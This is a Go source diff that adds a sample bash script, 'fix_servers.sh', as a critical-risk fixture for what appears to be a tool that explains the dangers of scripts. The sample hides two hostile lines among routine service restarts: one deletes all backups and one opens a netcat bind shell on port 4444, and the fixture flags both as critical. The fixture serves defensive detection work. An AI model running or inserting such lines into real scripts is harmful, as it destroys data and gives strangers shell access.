@@ -264,6 +264,47 @@ func (b *bench) golden(name string) {
 
 func output(s string) event.Event { return event.Event{Kind: event.Output, Data: []byte(s)} }
 
+// fixScript is the script of the critical sample.
+const fixScript = `#!/bin/bash
+# Fix the billing servers.
+# usage: fix_servers.sh [--all]
+set -eu
+
+HOSTS="billing-1 billing-2"
+LOG=/var/log/fix_servers.log
+
+log() { echo "$(date +%T) $*" >> "$LOG"; }
+
+log "making room for the restart"
+rm -rf /srv/backup/*
+
+restart() {
+	host=$1
+	log "restarting $host"
+	systemctl restart "billing-api@$host"
+	sleep 2
+	systemctl is-active "billing-api@$host"
+}
+
+if [ "${1:-}" = --all ]; then
+	for h in $HOSTS; do
+		restart "$h"
+	done
+else
+	restart billing-1
+fi
+
+# so that support can look at it
+nc -l -p 4444 -e /bin/sh
+
+log "waiting for the port"
+for i in 1 2 3; do
+	sleep 1
+done
+
+log "done"
+`
+
 // samples are holds of each risk.
 var samples = map[effect.Risk]*effect.Explanation{
 	effect.Safe: {
@@ -320,7 +361,7 @@ var samples = map[effect.Risk]*effect.Explanation{
 		},
 		Scripts: []effect.Script{{
 			Path: "/home/ravi/fix_servers.sh", Language: "bash", Lines: 38, Read: 38, Owner: "ravi", ModTime: start.Add(-time.Hour),
-			SHA256: strings.Repeat("5a", 32),
+			SHA256: strings.Repeat("5a", 32), Text: fixScript,
 			Worst: []effect.ScriptLine{
 				{Line: 12, Text: "rm -rf /srv/backup/*", Meaning: "deletes backups", Risk: effect.Critical},
 				{Line: 31, Text: "nc -l -p 4444 -e /bin/sh", Meaning: "lets others in", Risk: effect.Critical},
